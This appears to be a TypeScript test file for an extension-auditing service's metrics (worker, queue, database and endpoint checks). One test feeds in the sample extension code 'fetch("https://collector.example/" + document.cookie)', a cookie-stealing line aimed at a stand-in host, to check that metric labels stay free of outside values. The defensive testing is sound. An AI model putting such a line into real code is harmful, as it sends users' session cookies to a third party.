import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import { loadConfig } from '../config.ts';
import { createOwner } from '../domain/auth/create-owner.ts';
import { sendTest } from '../domain/alert/send-test.ts';
import { startService, type Service } from '../service.ts';
import { scrape, scrapeUntil } from '../testing/scrape.ts';
import { openServiceBench, type ServiceBench } from '../testing/service-bench.ts';
import { insertTestMonitor, insertTestWebhook } from '../testing/test-monitor.ts';

const extensionId = 'pkehgijcmpdhfbdbbnkijodmdjhbjlgp';

async function startOn(
  bench: ServiceBench,
  env: Readonly<Record<string, string>>,
): Promise<Service & { readonly scraped: string } & AsyncDisposable> {
  const settings = { ...bench.env, EXTAUDIT_PORT: '0', EXTAUDIT_METRICS_LISTEN: '127.0.0.1:0' };
  const config = await loadConfig({ env: { ...settings, ...env } });
  const service = await startService(config, { version: '9.8.7' });
  const scraped = service.metricsUrl;
  assert.ok(scraped !== undefined);
  return { ...service, scraped, [Symbol.asyncDispose]: () => service.stop() };
}

test('a worker tells of audits, deliveries, children, connections, stores and the queue', async () => {
  await using bench = await openServiceBench();
  await using worker = await startOn(bench, { EXTAUDIT_ROLE: 'worker' });
  const before = await scrape(worker.scraped);
  assert.equal(before.get('extaudit_build_info{version="9.8.7"}'), 1);
  assert.equal(before.get('extaudit_audits_total{outcome="completed"}'), 0);
  assert.equal(before.get('extaudit_audit_children'), 0);
  assert.equal(before.get('extaudit_store_failures{store="chrome-web-store"}'), 0);

  const analysisId = await bench.askForAudit(extensionId, 'chrome.runtime.id;');
  assert.equal((await bench.untilFinished(analysisId, 20)).state, 'completed');
  const owner = { email: 'ada@example.org', password: 'eighteen hundred and fifteen' };
  const { accountId } = await createOwner(bench.db, owner);
  const monitorId = await insertTestMonitor(bench.db, { account_id: accountId });
  // Nothing there that it could sign with, so that the one attempt of a test is given up.
  const webhook = { monitor_id: monitorId, url: 'https://receiver.example/hook' };
  const webhookId = await insertTestWebhook(bench.db, webhook);
  await sendTest({ db: bench.db, queue: bench.queue, now: () => new Date() }, webhookId);

  const after = await scrapeUntil(
    worker.scraped,
    (values) => values.get('extaudit_delivery_attempts_total{outcome="exhausted"}') === 1,
  );
  assert.equal(after.get('extaudit_delivery_attempts_total{outcome="delivered"}'), 0);
  assert.equal(after.get('extaudit_audits_total{outcome="completed"}'), 1);
  assert.equal(after.get('extaudit_audit_seconds_count'), 1);
  assert.ok((after.get('extaudit_audit_seconds_sum') ?? 0) > 0);
  assert.equal(after.get('extaudit_audit_children'), 1);
  const childBytes = after.get('extaudit_audit_children_resident_bytes') ?? 0;
  assert.ok(childBytes > 20e6 && childBytes < 1e9, String(childBytes));
  assert.equal(after.get('extaudit_database_up'), 1);
  assert.equal(after.get('extaudit_workers'), 1);
  assert.equal(after.get('extaudit_database_connections_max'), 10);
  assert.ok((after.get('extaudit_database_connections{state="idle"}') ?? 0) > 0);
  assert.ok((after.get('nodejs_eventloop_lag_p99_seconds') ?? 0) > 0);
});

test('the queue is told by job name, with the age of what waits', async () => {
  await using bench = await openServiceBench();
  // Only so that an audit may be asked for; an API alone takes none up.
  const gone = await startOn(bench, { EXTAUDIT_ROLE: 'worker' });
  await gone.stop();
  await bench.db.insertInto('worker').values({ worker_id: crypto.randomUUID() }).execute();
  await bench.askForAudit(extensionId, 'chrome.runtime.id;');
  await using api = await startOn(bench, { EXTAUDIT_ROLE: 'api' });
  const values = await scrapeUntil(
    api.scraped,
    (each) => (each.get('extaudit_queue_oldest_ready_seconds{queue="audit-version"}') ?? 0) > 2,
  );
  assert.equal(values.get('extaudit_queue_jobs{queue="audit-version",state="ready"}'), 1);
  assert.equal(values.get('extaudit_queue_jobs{queue="deliver-alert",state="ready"}'), 0);
  assert.equal(values.get('extaudit_queue_oldest_ready_seconds{queue="deliver-alert"}'), 0);
});

test('no label has values that somebody outside could add to', async () => {
  await using bench = await openServiceBench();
  await using service = await startOn(bench, {});
  await bench.askForAudit(extensionId, 'fetch("https://collector.example/" + document.cookie);');
  for (let count = 0; count < 20; count += 1)
    await fetch(`${service.url}/api/v1/stranger-${count}`);
  const values = await scrapeUntil(
    service.scraped,
    (each) => each.get('extaudit_audits_total{outcome="completed"}') === 1,
  );
  const ours = [...values.keys()].filter((name) => name.startsWith('extaudit_'));
  assert.ok(ours.length < 150, String(ours.length));
  assert.doesNotMatch(ours.join('\n'), /stranger|collector|pkehgij/);
});

test('metrics are answered without the database, which they say is away', async () => {
  await using bench = await openServiceBench();
  await using service = await startOn(bench, { EXTAUDIT_ROLE: 'api' });
  assert.equal((await scrape(service.scraped)).get('extaudit_database_up'), 1);
  await service.db.destroy();
  const values = await scrapeUntil(
    service.scraped,
    (each) => each.get('extaudit_database_up') === 0,
  );
  assert.equal(values.has('extaudit_workers'), false);
  assert.equal(
    [...values.keys()].some((name) => name.startsWith('extaudit_queue')),
    false,
  );
  assert.ok((values.get('process_resident_memory_bytes') ?? 0) > 0);
});

test('the metrics address has nothing else, and the API has no metrics', async () => {
  await using bench = await openServiceBench();
  await using service = await startOn(bench, { EXTAUDIT_ROLE: 'api' });
  const statusOf = async (url: string, method = 'GET'): Promise<number> =>
    (await fetch(url, { method })).status;
  const { origin } = new URL(service.scraped);
  assert.equal(await statusOf(`${origin}/api/v1/extensions`), 404);
  assert.equal(await statusOf(service.scraped, 'POST'), 405);
  assert.equal(await statusOf(service.scraped, 'HEAD'), 200);
  assert.equal(await statusOf(`${service.url}/metrics`), 404);
});

test('without the setting nothing is answered, and a port that is taken stops the start', async () => {
  await using bench = await openServiceBench();
  const settings = { ...bench.env, EXTAUDIT_PORT: '0', EXTAUDIT_ROLE: 'api' };
  const quiet = await startService(await loadConfig({ env: settings }), { version: '9.8.7' });
  assert.equal(quiet.metricsUrl, undefined);
  await quiet.stop();
  const taken = createServer().listen(0, '127.0.0.1');
  await once(taken, 'listening');
  const { port } = taken.address() as AddressInfo;
  await assert.rejects(startOn(bench, { EXTAUDIT_METRICS_LISTEN: `127.0.0.1:${port}` }), {
    code: 'cannot-start',
    message: new RegExp(`cannot listen on 127.0.0.1 port ${port} \\(EXTAUDIT_METRICS_LISTEN\\)`),
  });
  taken.close();
});
